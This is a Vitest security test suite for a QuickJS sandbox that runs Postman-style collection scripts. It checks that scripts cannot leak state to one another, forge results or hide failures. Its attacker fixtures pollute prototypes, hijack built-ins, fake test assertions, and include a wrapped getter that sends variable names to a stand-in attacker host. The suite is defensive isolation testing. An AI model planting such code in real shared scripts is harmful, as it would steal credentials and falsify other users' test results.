/**
 * The sandbox as a shared collection's author would attack it: leave something behind for the
 * next script (to read its credentials or fake its results), forge this script's own report, and
 * make failures vanish. Every case here failed before each execution got a fresh context.
 */
import { afterAll, describe, expect, it } from "vitest";
import type { HttpRequest, SendResult, Transport } from "../../core/http/transport";
import { NO_CAPABILITIES } from "../../core/http/transport";
import { makeQuickJsSandbox } from "./index";
import { loadNodeQuickJs } from "./nodeModule";
import { REPORT_BUDGET } from "./collector";
import { makeContext, one } from "./test/fixtures";

/** A transport that records what scripts try to send and answers 200. */
function recordingTransport() {
  const sent: HttpRequest[] = [];
  const transport: Transport = {
    name: "recording",
    capabilities: NO_CAPABILITIES,
    send(request): Promise<SendResult> {
      sent.push(request);
      return Promise.resolve({
        ok: true,
        response: {
          status: 200,
          statusText: "OK",
          headers: [],
          body: new Uint8Array(),
          timeMs: 1,
          url: request.url,
          redirected: false,
        },
      });
    },
  };
  return { sent, transport };
}

const recorder = recordingTransport();
const sandbox = makeQuickJsSandbox({ transport: recorder.transport });
afterAll(() => sandbox.dispose());

/** What an attacker's script leaves behind in every way a context allows. */
const PLANT = `
  globalThis.leaked = "global";
  Object.prototype.polluted = "object";
  Array.prototype.includes = function () { return true; };
  String.prototype.trim = function () { return "hijacked"; };
  Number.prototype.toFixed = function () { return "forged"; };
  const send = pm.sendRequest;
  try { Object.defineProperty(Object.getPrototypeOf(pm), "test", { value: () => {} }); } catch (e) {}
  try { pm.test = () => {}; } catch (e) {}
  pm.environment.constructor.prototype.get = function (k) {
    send("http://attacker.invalid/?" + k);
    return "forged";
  };
`;

/** What a victim script reads back: every planted thing shows up as something other than "clean". */
const PROBE = `
  const seen = [
    typeof leaked, ({}).polluted, [1].includes(2), " a ".trim(), (2).toFixed(1), pm.environment.get("baseUrl"),
  ];
  console.log(seen.map(String).join("|"));
  pm.test("victim's failing test", () => pm.expect(1).to.equal(2));
`;
const CLEAN = "undefined|undefined|false|a|2.0|https://api.example.com";

describe("nothing a script does reaches another script", () => {
  it("a later run (another request) sees none of it, and its failure stays a failure", async () => {
    recorder.sent.length = 0;
    const attack = await sandbox.run("test", one(PLANT), makeContext("test"));
    expect(attack.errors).toEqual([]);
    const sentByAttacker = recorder.sent.length;
    const victim = await sandbox.run("test", one(PROBE), makeContext("test"));
    expect(victim.errors).toEqual([]);
    expect(victim.console.map((c) => c.args.join(" "))).toEqual([CLEAN]);
    expect(victim.assertions.map((a) => [a.name, a.passed])).toEqual([
      ["victim's failing test", false],
    ]);
    // The wrapped getter never ran in the victim's execution: it sent nothing.
    expect(recorder.sent.slice(sentByAttacker)).toEqual([]);
  });

  it("the next script of the same stage (collection → request) sees none of it", async () => {
    const r = await sandbox.run(
      "test",
      [
        { location: "collection", code: PLANT },
        { location: "request", code: PROBE },
      ],
      makeContext("test"),
    );
    expect(r.console.map((c) => c.args.join(" "))).toEqual([CLEAN]);
    expect(r.assertions.map((a) => [a.name, a.passed, a.location])).toEqual([
      ["victim's failing test", false, "request"],
    ]);
  });

  it("collection → folder → request, and the next request: library prototypes and hidden properties are new each time", async () => {
    // Newman 6.2.2 runs every script of a run in one context, so there this plant reaches the
    // folder's and request's scripts; each Satchel execution starts from the prepared image.
    const plant = `
      const chai = require("chai");
      chai.Assertion.prototype.assert = function () {};
      require("lodash").get = () => "forged";
      Object.defineProperty(Object.prototype, "hidden", { value: "planted", configurable: true });
      Object.defineProperty(Array.prototype, "length2", { get() { return "planted"; }, configurable: true });
      Function.prototype.call = function () { return "forged"; };
      pm.test("planter's own test", () => pm.expect(1).to.equal(1));
    `;
    const probe = `
      console.log(String(({}).hidden), String([].length2), String(require("lodash").get({ a: 1 }, "a")));
      pm.test("victim fails", () => pm.expect(1).to.equal(2));
      pm.test("victim status fails", () => pm.response.to.have.status(404));
    `;
    const r = await sandbox.run(
      "test",
      [
        { location: "collection", code: plant },
        { location: "folder:F", code: probe },
        { location: "request", code: probe },
      ],
      makeContext("test"),
    );
    expect(r.errors).toEqual([]);
    expect(r.console.map((c) => c.args.join(" "))).toEqual([
      "undefined undefined 1",
      "undefined undefined 1",
    ]);
    expect(r.assertions.map((a) => [a.location, a.name, a.passed])).toEqual([
      ["collection", "planter's own test", true],
      ["folder:F", "victim fails", false],
      ["folder:F", "victim status fails", false],
      ["request", "victim fails", false],
      ["request", "victim status fails", false],
    ]);
    const next = await sandbox.run("test", one(probe), makeContext("test"));
    expect(next.console.map((c) => c.args.join(" "))).toEqual(["undefined undefined 1"]);
    expect(next.assertions.map((a) => a.passed)).toEqual([false, false]);
  });

  it("a pre-request script cannot reach the test script of the same request", async () => {
    const pre = await sandbox.run("prerequest", one(PLANT), makeContext("prerequest"));
    const test = await sandbox.run("test", one(PROBE), makeContext("test", { scopes: pre.scopes }));
    expect(test.console.map((c) => c.args.join(" "))).toEqual([CLEAN]);
    expect(test.assertions.map((a) => a.passed)).toEqual([false]);
  });

  it("still carries what Postman carries: variables and the request", async () => {
    const r = await sandbox.run(
      "prerequest",
      [
        {
          location: "collection",
          code: `pm.environment.set("token", "t1"); pm.variables.set("n", 2);
                 pm.request.headers.add({ key: "X-From", value: "collection" });`,
        },
        {
          location: "request",
          code: `console.log(pm.environment.get("token"), pm.variables.get("n"), pm.request.headers.get("X-From"));`,
        },
      ],
      makeContext("prerequest"),
    );
    expect(r.errors).toEqual([]);
    expect(r.console[0]?.args).toEqual(["t1", "2", "collection"]);
    expect(r.request.headers).toContainEqual(["X-From", "collection"]);
    expect(r.scopes.environment.token).toBe("t1");
  });

  it("draws a different Math.random sequence in every execution", async () => {
    const draw = one(`console.log(String(Math.random()), String(Math.random()));`);
    const a = await sandbox.run("prerequest", draw, makeContext("prerequest"));
    const b = await sandbox.run("prerequest", draw, makeContext("prerequest"));
    expect(a.console[0]?.args).not.toEqual(b.console[0]?.args);
    const uuids = one(`console.log(require("uuid").v4());`);
    const u1 = await sandbox.run("prerequest", uuids, makeContext("prerequest"));
    const u2 = await sandbox.run("prerequest", uuids, makeContext("prerequest"));
    expect(u1.console[0]?.args[0]).toMatch(/^[0-9a-f-]{36}$/);
    expect(u1.console[0]?.args[0]).not.toBe(u2.console[0]?.args[0]);
  });
});

describe("a script cannot forge its own report", () => {
  it("reports failures made after JSON, Array and Object built-ins are replaced", async () => {
    const r = await sandbox.run(
      "test",
      one(`
        JSON.stringify = () => '{"assertions":[]}';
        Array.prototype.push = function () { return 0; };
        Object.keys = () => [];
        String = function () { return "passed"; };
        pm.test("still fails", () => pm.expect(1).to.equal(2));
        pm.environment.set("kept", "yes");
        console.log("still logged");
      `),
      makeContext("test"),
    );
    expect(r.assertions.map((a) => [a.name, a.passed])).toEqual([["still fails", false]]);
    // The message is chai's, built with the script's own String: only the verdict is the host's.
    expect(r.assertions[0]?.error?.name).toBe("AssertionError");
    expect(r.scopes.environment.kept).toBe("yes");
    expect(r.console.map((c) => c.args)).toEqual([["still logged"]]);
  });

  it("keeps `__proto__` keys as plain variables on the host", async () => {
    const r = await sandbox.run(
      "prerequest",
      one(`pm.environment.set("__proto__", { polluted: true }); pm.globals.set("constructor", 1);`),
      makeContext("prerequest"),
    );
    expect(Object.hasOwn(r.scopes.environment, "__proto__")).toBe(true);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.getPrototypeOf(r.scopes.environment)).toBe(Object.prototype);
    expect(r.scopes.globals.constructor).toBe(1);
  });
});

describe("every failure surfaces", () => {
  const errorsOf = async (code: string, timeoutMs = 300) =>
    (await sandbox.run("prerequest", one(code), makeContext("prerequest", { timeoutMs }))).errors;

  it("stops promise loops that never yield to the host", async () => {
    expect(
      (
        await errorsOf(`(async () => { for (;;) await null; })(); await new Promise(() => {});`)
      ).map((e) => e.code),
    ).toEqual(["TIMEOUT"]);
    expect(
      (
        await errorsOf(
          `Promise.resolve().then(function f() { return Promise.resolve().then(f); });`,
        )
      ).map((e) => e.code),
    ).toEqual(["TIMEOUT"]);
  });

  it.each([
    ["a Proxy whose traps throw", `throw new Proxy({}, { get() { throw new Error("trap"); } });`],
    ["a Proxy revoked", `const p = Proxy.revocable({}, {}); p.revoke(); throw p.proxy;`],
    ["an object whose name getter throws", `throw { get name() { throw 1; }, message: "m" };`],
    ["a Symbol", `throw Symbol("sym");`],
    ["null", `throw null;`],
    ["an object whose toString throws", `throw { toString() { throw 1; } };`],
  ])("describes %s thrown by a script", async (_, code) => {
    const errors = await errorsOf(code, 2000);
    expect(errors).toHaveLength(1);
    expect(errors[0]).toMatchObject({ code: "RUNTIME", location: "request" });
    expect(typeof errors[0]?.message).toBe("string");
  });

  it("says which value a Symbol or a null was", async () => {
    expect((await errorsOf(`throw Symbol("sym");`))[0]?.message).toBe("Error: Symbol(sym)");
    expect((await errorsOf(`throw null;`))[0]?.message).toBe("Error: null");
  });

  it("fails a test whose error is a hostile value, and tests after a throwing `tests` object", async () => {
    const r = await sandbox.run(
      "test",
      one(`pm.test("hostile", () => { throw new Proxy({}, { get() { throw 1; } }); });
           tests = new Proxy({}, { ownKeys() { throw new Error("no keys"); } });`),
      makeContext("test"),
    );
    expect(r.assertions.map((a) => [a.name, a.passed])).toEqual([["hostile", false]]);
    expect(r.errors.map((e) => e.message)).toEqual(["Error: no keys"]);
  });

  it("caps what a script reports, and says so", async () => {
    const r = await sandbox.run(
      "prerequest",
      one(`const line = "x".repeat(1 << 20); for (let i = 0; i < 64; i++) console.log(line);`),
      makeContext("prerequest", { timeoutMs: 30_000 }),
    );
    const bytes = r.console.reduce((n, c) => n + c.args.join("").length, 0);
    expect(bytes).toBeLessThanOrEqual(REPORT_BUDGET);
    expect(r.console.length).toBeGreaterThan(0);
    expect(r.errors.map((e) => e.message)).toEqual([
      expect.stringMatching(/reported more than 32 MiB .*the rest was dropped/),
    ]);
  }, 60_000);
});

describe("a QuickJS module that traps", () => {
  it("is replaced, and the run says why", async () => {
    let loads = 0;
    let trapped = false;
    const own = makeQuickJsSandbox({
      loadModule: async (memory) => {
        loads++;
        const mod = await loadNodeQuickJs(memory);
        const newRuntime = mod.newRuntime.bind(mod);
        // The first module traps once inside QuickJS, as an abort() in the C code would.
        mod.newRuntime = (options) => {
          const rt = newRuntime(options);
          const jobs = rt.executePendingJobs.bind(rt);
          rt.executePendingJobs = (max) => {
            if (loads === 1 && !trapped) {
              trapped = true;
              throw new WebAssembly.RuntimeError("unreachable");
            }
            return jobs(max);
          };
          return rt;
        };
        return mod;
      },
    });
    const failed = await own.run(
      "prerequest",
      one(`pm.environment.set("a", 1);`),
      makeContext("prerequest"),
    );
    expect(failed.errors).toEqual([
      {
        code: "RUNTIME",
        message: "The sandbox failed: RuntimeError: unreachable",
        location: "request",
      },
    ]);
    const next = await own.run(
      "prerequest",
      one(`pm.environment.set("b", 2);`),
      makeContext("prerequest"),
    );
    own.dispose();
    expect(next.errors).toEqual([]);
    expect(next.scopes.environment.b).toBe(2);
    expect(loads).toBe(2);
  });
});
